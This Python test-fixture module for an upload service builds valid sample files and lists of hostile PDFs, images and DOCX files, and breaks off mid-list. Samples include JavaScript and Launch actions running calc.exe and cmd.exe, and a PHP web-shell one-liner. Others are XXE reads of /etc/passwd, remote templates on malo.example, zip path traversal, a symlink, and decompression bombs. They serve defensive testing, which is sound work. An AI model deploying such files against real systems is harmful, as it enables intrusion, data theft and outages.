"""Files for tests: the good ones of `portal.muestras`, a small writer of compound files, and the hostile ones."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from portal.muestras import comprimir, docx, jpg, partes_docx, pdf, png

MIB = 1024 * 1024
Hostil = tuple[str, Callable[[], bytes]]


# --- Compound files (OLE), as legacy Office writes them --------------------------------------------------------------
def compuesto(flujos: dict[str, bytes]) -> bytes:
    """A compound file of `flujos` (`Storage/Stream` → content), each padded to leave the mini stream out."""
    entradas: list[list[Any]] = [["Root Entry", 5, [], b""]]
    indice = {"": 0}
    for ruta, contenido in flujos.items():
        partes = ruta.split("/")
        for hondura in range(1, len(partes) + 1):
            nombre = "/".join(partes[:hondura])
            if nombre not in indice:
                es_flujo = hondura == len(partes)
                indice[nombre] = len(entradas)
                entradas.append([partes[hondura - 1], 2 if es_flujo else 1, [], contenido if es_flujo else b""])
                entradas[indice["/".join(partes[: hondura - 1])]][2].append(indice[nombre])
    cuerpos = [e[3].ljust(4096, b"\0") if e[1] == 2 else b"" for e in entradas]
    directorio = -(-len(entradas) * 128 // 512)
    sectores = directorio + sum(-(-len(c) // 512) for c in cuerpos)
    fats = -(-(sectores + 4) // 127)
    fat = [0xFFFFFFFD] * fats
    fat += [*range(fats + 1, fats + directorio), 0xFFFFFFFE]
    inicios, datos = [], b""
    for cuerpo in cuerpos:
        inicios.append(len(fat) if cuerpo else 0)
        if cuerpo:
            n = -(-len(cuerpo) // 512)
            fat += [*range(len(fat) + 1, len(fat) + n), 0xFFFFFFFE]
            datos += cuerpo.ljust(n * 512, b"\0")
    fat += [0xFFFFFFFF] * (fats * 128 - len(fat))
    hermano = {a: b for e in entradas for a, b in zip(e[2], e[2][1:], strict=False)}
    tabla = b""
    for i, (nombre, tipo, hijos, _) in enumerate(entradas):
        texto = nombre.encode("utf-16-le") + b"\0\0"
        tabla += texto.ljust(64, b"\0") + struct.pack("<HBB", len(texto), tipo, 1)
        tabla += struct.pack("<III", 0xFFFFFFFF, hermano.get(i, 0xFFFFFFFF), hijos[0] if hijos else 0xFFFFFFFF)
        tabla += b"\0" * 36 + struct.pack(
            "<IQ", inicios[i] if tipo == 2 else (0xFFFFFFFE if tipo == 5 else 0), len(cuerpos[i])
        )
    cabecera = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    )
    cabecera += struct.pack("<IIIIIIIII", 0, fats, fats, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    cabecera += struct.pack(f"<{fats}I", *range(fats)) + b"\xff" * (4 * (109 - fats))
    return cabecera + struct.pack(f"<{len(fat)}I", *fat) + tabla.ljust(directorio * 512, b"\0") + datos


def doc(texto: bytes = b"Poder simple\r", *, banderas: int = 0x0200, marca: int = 0xA5EC, **otros: bytes) -> bytes:
    """A Word 97 document as far as its header, tables and text stream go; `otros` are further streams."""
    fib = struct.pack("<HHHHHH", marca, 0x00C1, 0, 0x340A, 0, banderas).ljust(1024, b"\0")
    return compuesto(
        {"1Table": b"\0" * 512, "WordDocument": fib + texto, "\x05SummaryInformation": b"\0" * 64, **otros}
    )


# --- PDF -------------------------------------------------------------------------------------------------------------
def _pdf(cambio: Callable[[pikepdf.Pdf], Any], **opciones: Any) -> Callable[[], bytes]:
    def hacer() -> bytes:
        with pikepdf.open(io.BytesIO(pdf())) as documento:
            cambio(documento)
            salida = io.BytesIO()
            documento.save(salida, **opciones)
            return salida.getvalue()

    return hacer


def pdf_a_mano(*objetos: bytes, raiz: int = 1, extra: bytes = b"") -> bytes:
    """A PDF of `objetos` (bodies, numbered from 1) with a right table of contents."""
    salida, lugares = bytearray(b"%PDF-1.7\n" + extra), []
    for numero, objeto in enumerate(objetos, start=1):
        lugares.append(len(salida))
        salida += b"%d 0 obj\n" % numero + objeto + b"\nendobj\n"
    inicio = len(salida)
    salida += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objetos) + 1)
    salida += b"".join(b"%010d 00000 n \n" % lugar for lugar in lugares)
    return bytes(salida) + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objetos) + 1,
        raiz,
        inicio,
    )


CATALOGO, PAGINAS, PAGINA = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
)  # fmt: skip


def flujo(contenido: bytes, diccionario: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n" % (len(contenido), diccionario) + contenido + b"\nendstream"


def _con_contenido(contenido: Callable[[], bytes], diccionario: bytes) -> Callable[[], bytes]:
    pagina = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    return lambda: pdf_a_mano(CATALOGO, PAGINAS, pagina, flujo(contenido(), diccionario))


def ceros(cuantos: int) -> bytes:
    """`cuantos` zeros, deflated."""
    return zlib.compress(b"\0" * cuantos, 9)


def _accion(**campos: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, **campos)


def _js() -> Dictionary:
    return _accion(S=Name.JavaScript, JS=String("app.alert(1)"))


def _abrir(**campos: Any) -> Callable[[], bytes]:
    return _pdf(lambda d: d.Root.__setattr__("OpenAction", _accion(**campos)))


def _anotar(**campos: Any) -> Callable[[], bytes]:
    def cambio(d: pikepdf.Pdf) -> None:
        marca = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **campos)
        d.pages[0].obj.Annots = Array([d.make_indirect(marca)])

    return _pdf(cambio)


def _adjuntar(d: pikepdf.Pdf) -> None:
    d.attachments["virus.exe"] = b"MZ" + b"\0" * 100


def _objstm_bomba() -> bytes:
    """Objects in a stream that inflates to 200 MB."""
    relleno = zlib.compressobj(9)
    cuerpo = b"1 0 2 32 3 70 " + CATALOGO.ljust(32) + PAGINAS.ljust(38) + PAGINA
    crudo = relleno.compress(cuerpo) + b"".join(relleno.compress(b" " * MIB) for _ in range(200)) + relleno.flush()
    return _con_objstm(flujo(crudo, b"/Type/ObjStm/N 3/First 14/Filter/FlateDecode"))


def _con_objstm(objstm: bytes) -> bytes:
    salida = bytearray(b"%PDF-1.7\n")
    lugar = len(salida)
    salida += b"4 0 obj\n" + objstm + b"\nendobj\n"
    inicio = len(salida)
    filas = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, lugar, 0), (1, inicio, 0)]
    tabla = b"".join(struct.pack(">BIH", *fila) for fila in filas)
    salida += b"5 0 obj\n" + flujo(tabla, b"/Type/XRef/Size 6/W[1 4 2]/Root 1 0 R") + b"\nendobj\n"
    return bytes(salida) + b"startxref\n%d\n%%%%EOF\n" % inicio


def _xref_bomba() -> bytes:
    relleno = zlib.compressobj(9)
    crudo = b"".join(relleno.compress(b"\0" * MIB) for _ in range(300)) + relleno.flush()
    cuerpo = (
        b"5 0 obj\n" + flujo(crudo, b"/Type/XRef/Size 44000000/W[1 4 2]/Root 1 0 R/Filter/FlateDecode") + b"\nendobj\n"
    )
    return b"%PDF-1.7\n" + cuerpo + b"startxref\n9\n%%EOF\n"


def _paginas_hondas(hondura: int) -> bytes:
    nodos = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, hondura)]
    return pdf_a_mano(CATALOGO, *nodos, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def _zip_dentro() -> bytes:
    """A zip whose closing comment is the PDF's own end."""
    original = pdf()
    carga = io.BytesIO()
    with zipfile.ZipFile(carga, "w") as paquete:
        paquete.writestr("a.txt", "hola")
        paquete.comment = b"\n" + original[original.rfind(b"startxref") :]
    return original[: original.rfind(b"startxref")] + carga.getvalue()


PDF_HOSTILES: list[Hostil] = [
    ("js-al-abrir", _pdf(lambda d: d.Root.__setattr__("OpenAction", _js()))),
    ("js-por-nombre", _pdf(lambda d: d.Root.__setattr__("Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _js()])))))),
    ("js-de-pagina", _pdf(lambda d: d.pages[0].obj.__setattr__("AA", Dictionary(O=_js())))),
    ("js-de-documento-al-cerrar", _pdf(lambda d: d.Root.__setattr__("AA", Dictionary(WC=_js())))),
    ("js-de-enlace", _anotar(Subtype=Name.Link, A=_js())),
    ("js-de-campo", _pdf(lambda d: d.Root.__setattr__("AcroForm", Dictionary(Fields=Array([d.make_indirect(Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=_js())))]))))),
    ("js-encadenado", _abrir(S=Name.GoTo, D=String("x"), Next=_js())),
    ("js-del-indice", _pdf(lambda d: d.Root.__setattr__("Outlines", Dictionary(First=d.make_indirect(Dictionary(Title=String("a"), A=_js())))))),
    ("js-en-flujo", _pdf(lambda d: d.Root.__setattr__("OpenAction", _accion(S=Name.JavaScript, JS=d.make_stream(b"app.alert(1)"))))),
    ("js-en-flujo-de-objetos", _pdf(lambda d: d.Root.__setattr__("OpenAction", d.make_indirect(_js())), object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    ("js-con-nombre-escapado", lambda: pdf_a_mano(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/#4a#53(app.alert\\(1\\))>>>>", PAGINAS, PAGINA)),
    ("js-suelto", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"<</S/JavaScript/JS(1)>>")),
    ("js-en-lista", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"[[[<</S/JavaScript/JS<6170>>>]]]")),
    ("js-sin-tipo", lambda: pdf_a_mano(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</JS(1)>>>>", PAGINAS, PAGINA)),
    ("ejecutar", _abrir(S=Name.Launch, F=String("calc.exe"))),
    ("ejecutar-windows", _abrir(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))),
    ("enviar-formulario", _abrir(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://malo.example")))),
    ("importar-datos", _abrir(S=Name.ImportData, F=String("x.fdf"))),
    ("ir-a-otro-archivo", _abrir(S=Name.GoToR, F=String("\\\\malo\\x.pdf"), D=Array([0, Name.Fit]))),
    ("ir-a-incrustado", _abrir(S=Name.GoToE, T=Dictionary(R=Name.C))),
    ("mostrar-multimedia", _abrir(S=Name.Rendition, OP=0)),
    ("uri-javascript", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String("javascript:alert(1)")))),
    ("uri-javascript-mayusculas", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String(" JaVaScRiPt:alert(1)")))),
    ("uri-archivo", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String("file:///etc/passwd")))),
    ("uri-unc", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String("\\\\malo\\x")))),
    ("uri-data", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String("data:text/html,<script>alert(1)</script>")))),
    ("archivo-adjunto", _pdf(_adjuntar)),
    ("archivo-como-nota", _anotar(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec))),
    ("archivo-asociado", _pdf(lambda d: d.Root.__setattr__("AF", Array([Dictionary(Type=Name.Filespec, EF=Dictionary(F=d.make_stream(b"MZ")))])))),
    ("archivo-suelto", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, flujo(b"MZ", b"/Type/EmbeddedFile"))),
    ("cartera", _pdf(lambda d: d.Root.__setattr__("Collection", Dictionary(View=Name.D)))),
    ("xfa", _pdf(lambda d: d.Root.__setattr__("AcroForm", Dictionary(Fields=Array(), XFA=d.make_stream(b"<xdp/>"))))),
    ("richmedia", _anotar(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
    ("pantalla", _anotar(Subtype=Name.Screen)),
    ("pelicula", _anotar(Subtype=Name.Movie, Movie=Dictionary())),
    ("sonido", _anotar(Subtype=Name.Sound)),
    ("3d", _anotar(Subtype=Name("/3D"))),
    ("postscript", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, flujo(b"quit", b"/Type/XObject/Subtype/PS"))),
    ("flujo-externo", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, flujo(b"", b"/F(http://malo.example/x)"))),
    ("con-clave", _pdf(lambda d: None, encryption=pikepdf.Encryption(owner="a", user="b"))),
    ("con-restricciones", _pdf(lambda d: None, encryption=pikepdf.Encryption(owner="a", user=""))),
    ("con-clave-rc4", _pdf(lambda d: None, encryption=pikepdf.Encryption(owner="a", user="", R=3, aes=False, metadata=False))),
    ("sin-paginas", _pdf(lambda d: d.pages.__delitem__(0))),
    ("sin-arbol-de-paginas", lambda: pdf_a_mano(b"<</Type/Catalog>>", PAGINAS, PAGINA)),
    ("pagina-que-es-texto", lambda: pdf_a_mano(CATALOGO, PAGINAS, b"(hola)")),
    ("pagina-inexistente", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[9 0 R]/Count 1>>")),
    ("basura-delante", lambda: b"basura\n" + pdf()),
    ("html-delante", lambda: b"<html><script>alert(1)</script></html>" + pdf()),
    ("gif-delante", lambda: b"GIF89a" + pdf()),
    ("exe-delante", lambda: b"MZ\x90\0" + pdf()),
    ("zip-detras", lambda: pdf() + docx()),
    ("html-detras", lambda: pdf() + b"<script>alert(1)</script>"),
    ("exe-detras", lambda: pdf() + b"MZ" + b"\0" * 500),
    ("pdf-detras-roto", lambda: pdf() + b"%PDF-1.4 nada"),
    ("zip-dentro", _zip_dentro),
    ("html-en-comentario", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, extra=b"%<html><script>alert(1)</script>\n")),
    ("php-en-comentario", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, extra=b"%<?php system($_GET[0]); ?>\n")),
    ("cortado-a-la-mitad", lambda: pdf(paginas=5)[: len(pdf(paginas=5)) // 2]),
    ("cortado-al-final", lambda: pdf()[:-12]),
    ("solo-cabecera", lambda: b"%PDF-1.7\n"),
    ("cabecera-y-basura", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF"),
    ("indice-roto", lambda: pdf().replace(b"startxref\n", b"startxref\n9")),
    ("sin-indice", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA).replace(b"xref\n0", b"xxxx\n0")),
    ("indice-desmedido", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA).replace(b"xref\n0 4", b"xref\n0 4294967295")),
    ("indice-en-circulo", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA).replace(b"/Size 4", b"/Size 4/Prev 175")),
    ("bomba-de-contenido", _con_contenido(lambda: ceros(400 * MIB), b"/Filter/FlateDecode")),
    ("bomba-doble", _con_contenido(lambda: zlib.compress(ceros(400 * MIB)), b"/Filter[/FlateDecode/FlateDecode]")),
    ("bomba-runlength", _con_contenido(lambda: b"\x81\0" * (2 * MIB), b"/Filter/RunLengthDecode")),
    ("bomba-ascii85-flate", _con_contenido(lambda: ceros(200 * MIB).hex().encode() + b">", b"/Filter[/ASCIIHexDecode/FlateDecode]")),
    ("bomba-en-muchos-flujos", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, *[flujo(ceros(50 * MIB), b"/Filter/FlateDecode")] * 20)),
    ("bomba-de-objetos-comprimidos", _objstm_bomba),
    ("bomba-en-el-indice", _xref_bomba),
    ("imagen-desmedida", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, flujo(b"x", b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB"))),
    ("flate-roto", _con_contenido(lambda: b"esto no es deflate", b"/Filter/FlateDecode")),
    ("cien-mil-objetos", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, *[b"<<>>"] * 100_000)),
    ("lista-de-un-millon", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"[" + b"0 " * 2_000_000 + b"]")),
    ("listas-anidadas", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"[" * 1_000_000 + b"]" * 1_000_000)),
    ("millon-de-listas", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, *[b"[" + b"[]" * 199_000 + b"]"] * 12)),
    ("diccionarios-anidados", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"<</A" * 400_000 + b" 1" + b">>" * 400_000)),
    ("una-pagina-mil-veces", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>", PAGINA)),
    ("paginas-en-circulo", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[2 0 R]/Count 1>>", PAGINA)),
    ("paginas-muy-hondas", lambda: _paginas_hondas(50_000)),
    ("diez-mil-paginas", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[" + b"".join(b"%d 0 R " % n for n in range(3, 10_003)) + b"]/Count 10000>>", *[PAGINA] * 10_000)),
    ("cuenta-falsa", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>", PAGINA)),
    ("clave-repetida", lambda: pdf_a_mano(b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/OpenAction null>>", PAGINAS, PAGINA, b"<<>>")),
]  # fmt: skip


# --- Images ----------------------------------------------------------------------------------------------------------
def _trozo_png(tipo: bytes, datos: bytes) -> bytes:
    return struct.pack(">I", len(datos)) + tipo + datos + struct.pack(">I", zlib.crc32(tipo + datos))


def png_a_mano(ancho: int, alto: int, idat: bytes, *otros: bytes, color: int = 2) -> bytes:
    cabecera = _trozo_png(b"IHDR", struct.pack(">IIBBBBB", ancho, alto, 8, color, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + cabecera + b"".join(otros) + _trozo_png(b"IDAT", idat) + _trozo_png(b"IEND", b"")


def _jpg_de(ancho: int, alto: int) -> bytes:
    datos = jpg()
    lugar = datos.index(b"\xff\xc0") + 5
    return datos[:lugar] + struct.pack(">HH", alto, ancho) + datos[lugar + 4 :]


def _imagen(formato: str) -> Callable[[], bytes]:
    def hacer() -> bytes:
        salida = io.BytesIO()
        Image.new("RGB", (20, 20)).save(salida, formato)
        return salida.getvalue()

    return hacer


def _png_roto() -> bytes:
    datos = bytearray(png())
    datos[datos.index(b"IDAT") + 40] ^= 0xFF
    return bytes(datos)


IMAGENES_HOSTILES: list[Hostil] = [
    ("jpg-cortado", lambda: jpg()[: len(jpg()) // 2]),
    ("jpg-casi-entero", lambda: jpg()[:-2000]),
    ("jpg-solo-inicio", lambda: b"\xff\xd8\xff\xe0"),
    ("jpg-inicio-y-html", lambda: b"\xff\xd8\xff<html><script>alert(1)</script>"),
    ("jpg-inicio-y-ceros", lambda: b"\xff\xd8\xff" + b"\0" * 5000),
    ("jpg-desmedido", lambda: _jpg_de(65_000, 65_000)),
    ("jpg-de-cincuenta-y-un-millones", lambda: _jpg_de(10_200, 5_000)),
    ("jpg-sin-alto", lambda: _jpg_de(100, 0)),
    ("png-cortado", lambda: png()[: len(png()) // 2]),
    ("png-solo-inicio", lambda: b"\x89PNG\r\n\x1a\n"),
    ("png-inicio-y-php", lambda: b"\x89PNG\r\n\x1a\n<?php system($_GET[0]); ?>"),
    ("png-suma-mala", _png_roto),
    ("png-desmedido", lambda: png_a_mano(60_000, 60_000, ceros(MIB))),
    ("png-dimension-imposible", lambda: png_a_mano(2**31 - 1, 2**31 - 1, ceros(MIB))),
    ("png-bomba-de-color", lambda: png_a_mano(7_000, 7_000, ceros(7_000 * 21_001))),
    ("png-sin-puntos", lambda: png_a_mano(0, 0, b"")),
    ("png-sin-datos", lambda: b"\x89PNG\r\n\x1a\n" + _trozo_png(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0)) + _trozo_png(b"IEND", b"")),
    ("png-datos-cortos", lambda: png_a_mano(500, 500, ceros(10))),
    ("png-texto-bomba", lambda: png_a_mano(2, 2, ceros(14), *[_trozo_png(b"zTXt", b"a\0\0" + ceros(60 * MIB))] * 3)),
    ("gif", _imagen("GIF")), ("bmp", _imagen("BMP")), ("tiff", _imagen("TIFF")), ("webp", _imagen("WEBP")), ("ico", _imagen("ICO")),
    ("svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 400),
]  # fmt: skip


# --- DOCX ------------------------------------------------------------------------------------------------------------
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_RELS = "word/_rels/document.xml.rels"


def _docx(**cambios: bytes) -> Callable[[], bytes]:
    return lambda: comprimir({**partes_docx(), **{k.replace("__", "/"): v for k, v in cambios.items()}})


def con_partes(partes: dict[str, bytes]) -> Callable[[], bytes]:
    return lambda: comprimir({**partes_docx(), **partes})


def con_relacion(tipo: str, destino: str, modo: str = ' TargetMode="External"') -> Callable[[], bytes]:
    """A DOCX whose text relates to `destino`."""
    xml = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{_R}{tipo}" Target="{destino}"{modo}/></Relationships>'
    )
    return con_partes({_RELS: xml.encode()})


def _cuerpo(interior: str) -> Callable[[], bytes]:
    original = partes_docx()["word/document.xml"].decode()
    return con_partes({"word/document.xml": original.replace("<w:p>", f"<w:p>{interior}", 1).encode()})


def _tipos(de: str, a: str) -> Callable[[], bytes]:
    return lambda: comprimir(
        {**partes_docx(), "[Content_Types].xml": partes_docx()["[Content_Types].xml"].replace(de.encode(), a.encode())}
    )


def _sin(parte: str) -> Callable[[], bytes]:
    return lambda: comprimir({n: c for n, c in partes_docx().items() if n != parte})


def _zip_con(preparar: Callable[[zipfile.ZipFile], None], metodo: int = zipfile.ZIP_DEFLATED) -> Callable[[], bytes]:
    def hacer() -> bytes:
        salida = io.BytesIO()
        with zipfile.ZipFile(salida, "w", metodo) as paquete:
            for nombre, contenido in partes_docx().items():
                paquete.writestr(nombre, contenido)
            preparar(paquete)
        return salida.getvalue()

    return hacer


def _repetida(paquete: zipfile.ZipFile) -> None:
    otra = zipfile.ZipInfo("word/DOCUMENT.xml")
    paquete.writestr(otra, b"<otro/>")


def _enlace_simbolico(paquete: zipfile.ZipFile) -> None:
    enlace = zipfile.ZipInfo("word/media.xml")
    enlace.external_attr = 0xA1FF << 16
    paquete.writestr(enlace, "/etc/passwd")


def _cifrado() -> bytes:
    datos = bytearray(docx())
    for firma, salto in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        lugar = datos.find(firma)
        while lugar >= 0:
            datos[lugar + salto] |= 1
            lugar = datos.find(firma, lugar + 1)
    return bytes(datos)


def _tamano_mentido() -> bytes:
    """Says 100 bytes, inflates to 100 MB."""
    datos = bytearray(comprimir({**partes_docx(), "word/media/a.png": b"\0" * (100 * MIB)}))
    largo = struct.pack("<I", 100 * MIB)
    while (lugar := datos.find(largo)) >= 0:
        datos[lugar : lugar + 4] = struct.pack("<I", 100)
    return bytes(datos)


def _solapada() -> bytes:
    """Two lines of the index, one content (Fifield)."""
    datos = con_partes({"word/a.xml": b"<a/>", "word/b.xml": b"<a/>"})()
    primero = datos.index(b"word/a.xml") - 30
    segundo = datos.index(b"word/b.xml") - 30
    corte = datos.index(b"PK\x01\x02")
    return datos[:corte] + datos[corte:].replace(
        struct.pack("<I", segundo) + b"word/b", struct.pack("<I", primero) + b"word/b"
    )


_MIL_RISAS = (
    '<!DOCTYPE w [<!ENTITY a "jajaja">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"
)  # fmt: skip
_CAMPO = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'

DOCX_HOSTILES: list[Hostil] = [
    ("macros", con_partes({"word/vbaProject.bin": compuesto({"VBA/dir": b"x"})})),
    ("macros-en-mayusculas", con_partes({"word/VBAPROJECT.BIN": b"x"})),
    ("macros-con-otro-nombre", con_relacion("vbaProject", "media/image1.png", "")),
    ("macros-datos", con_partes({"word/vbaData.xml": b"<a/>"})),
    ("docm", _tipos("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
    ("dotm", _tipos("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
    ("dotx", _tipos("document.main+xml", "template.main+xml")),
    ("tipo-macro-por-extension", _tipos('<Default Extension="xml"', '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"')),
    ("plantilla-remota", con_relacion("attachedTemplate", "https://malo.example/x.dotm")),
    ("plantilla-unc", con_relacion("attachedTemplate", "file://\\\\malo\\x.dotm")),
    ("objeto-remoto", con_relacion("oleObject", "https://malo.example/x.html!")),
    ("objeto-mhtml", con_relacion("oleObject", "mhtml:https://malo.example/x!x-usc:https://malo.example/x")),
    ("marco-remoto", con_relacion("frame", "https://malo.example/x")),
    ("subdocumento", con_relacion("subDocument", "https://malo.example/x")),
    ("imagen-remota", con_relacion("image", "https://malo.example/pixel.png")),
    ("imagen-unc", con_relacion("image", "\\\\malo\\x.png")),
    ("enlace-javascript", con_relacion("hyperlink", "javascript:alert(1)")),
    ("enlace-archivo", con_relacion("hyperlink", "file:///c:/windows/system32/calc.exe")),
    ("enlace-unc", con_relacion("hyperlink", "\\\\malo\\x")),
    ("enlace-search-ms", con_relacion("hyperlink", "search-ms:query=x")),
    ("interno-que-es-externo", con_relacion("image", "http://malo.example/x.png", "")),
    ("trozo-html", con_relacion("aFChunk", "trozo.html", "")),
    ("ole-incrustado", con_partes({"word/embeddings/oleObject1.bin": b"x"})),
    ("excel-incrustado", con_partes({"word/embeddings/hoja.xlsx": docx()})),
    ("activex", con_partes({"word/activeX/activeX1.xml": b"<a/>"})),
    ("exe-dentro", con_partes({"word/media/x.exe": b"MZ"})),
    ("js-dentro", con_partes({"word/x.js": b"alert(1)"})),
    ("html-dentro", con_partes({"word/x.html": b"<script>alert(1)</script>"})),
    ("dtd", con_partes({"word/document.xml": b'<!DOCTYPE a SYSTEM "http://malo.example/x.dtd">' + partes_docx()["word/document.xml"][55:]})),
    ("xxe", con_partes({"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'})),
    ("xxe-en-relaciones", con_partes({"_rels/.rels": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + partes_docx()["_rels/.rels"][55:]})),
    ("mil-risas", con_partes({"word/styles.xml": f"{_MIL_RISAS}<w>&i;</w>".encode()})),
    ("mil-risas-en-tipos", con_partes({"[Content_Types].xml": f"{_MIL_RISAS}<w>&i;</w>".encode()})),
    ("dtd-utf16", con_partes({"word/styles.xml": f'<?xml version="1.0" encoding="UTF-16"?>{_MIL_RISAS}<w>&i;</w>'.encode("utf-16")})),
    ("xml-utf7", con_partes({"word/styles.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'})),
    ("xml-roto", con_partes({"word/document.xml": b"<w:document"})),
    ("xml-hondo", con_partes({"word/styles.xml": b"<a>" * 2_000_000})),
    ("bomba", con_partes({"word/media/a.png": b"\0" * (120 * MIB)})),
    ("bomba-de-xml", con_partes({"word/styles.xml": b"<a>" + b" " * (60 * MIB) + b"</a>"})),
    ("bomba-en-relaciones", con_partes({_RELS: b"<a>" + b"<b/>" * (3 * MIB) + b"</a>"})),
    ("bomba-que-miente", _tamano_mentido),
    ("bomba-en-muchas-partes", con_partes({f"word/media/{n}.png": b"\0" * MIB for n in range(150)})),
    ("bomba-solapada", _solapada),
    ("demasiadas-entradas", con_partes({f"word/{n}.xml": b"<a/>" for n in range(5_000)})),
    ("ruta-hacia-arriba", con_partes({"../../x.xml": b"<a/>"})),
    ("ruta-absoluta", con_partes({"/etc/x.xml": b"<a/>"})),
    ("ruta-de-windows", con_partes({"word\\..\\x.xml": b"<a/>"})),
    ("ruta-con-unidad", con_partes({"c:/x.xml": b"<a/>"})),
    ("enlace-simbolico", _zip_con(_enlace_simbolico)),
    ("nombre-repetido", _zip_con(_repetida)),
    ("cifrado", _cifrado),
    ("comentario", _zip_con(lambda p: setattr(p, "comment", b"<script>alert(1)</script>"))),
    ("compresion-rara", _zip_con(lambda p: None, zipfile.ZIP_LZMA)),
    ("compresion-bzip2", _zip_con(lambda p: None, zipfile.ZIP_BZIP2)),
    ("detras-html", lambda: docx() + b"<script>alert(1)</script>"),
    ("detras-pdf", lambda: docx() + pdf()),
    ("delante-exe", lambda: b"MZ" + docx()),
    ("delante-otro-zip", lambda: b"PK\x03\x04" + b"\0" * 60 + docx()),
    ("cortado", lambda: docx()[:-30]),
    ("suma-mala", lambda: docx().replace(b"\x00\x00word/document.xml", b"\x00\x00word/dxcument.xml", 1)),
    ("sin-tipos", _sin("[Content_Types].xml")),
    ("sin-relaciones", _sin("_rels/.rels")),
    ("sin-texto", _sin("word/document.xml")),
    ("texto-que-no-es", con_partes({"word/document.xml": b"<html/>"})),
    ("xlsx", lambda: comprimir({"[Content_Types].xml": partes_docx()["[Content_Types].xml"].replace(b"word/document.xml", b"xl/workbook.xml").replace(b"wordprocessingml.document", b"spreadsheetml.sheet"), "_rels/.rels": partes_docx()["_rels/.rels"].replace(b"word/document", b"xl/workbook"), "xl/workbook.xml": b"<workbook/>"})),
